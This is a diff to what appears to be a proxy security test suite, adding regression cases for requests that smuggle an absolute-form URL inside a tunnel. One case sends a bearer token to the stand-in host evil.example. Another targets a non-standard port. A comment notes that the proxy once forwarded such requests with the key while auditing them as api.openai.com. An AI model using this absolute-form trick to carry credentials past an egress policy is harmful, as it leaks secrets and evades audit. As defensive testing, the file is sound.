@@ -708,6 +708,24 @@ HOST_ATTEMPTS = [
         ),
         id="absolute-form-to-other-host-inside-tunnel",
     ),
+    # the same with a request the policy allows: mitmproxy sent the absolute-form line
+    # upstream as is, with the key, audited as api.openai.com
+    pytest.param(
+        in_tunnel(
+            lambda env, m: request_bytes(
+                "POST", f"https://evil.example{CHAT}", OPENAI, bearer(env.token()), chat(marker=m)
+            )
+        ),
+        id="absolute-form-allowed-request-other-host-inside-tunnel",
+    ),
+    pytest.param(
+        in_tunnel(
+            lambda env, m: request_bytes(
+                "POST", f"https://{OPENAI}:8443{CHAT}", OPENAI, bearer(env.token()), chat(marker=m)
+            )
+        ),
+        id="absolute-form-allowed-request-other-port-inside-tunnel",
+    ),
     pytest.param(in_tunnel(post("gpt-4o"), sni=None), id="no-sni-still-policy-checked"),
 ]
 
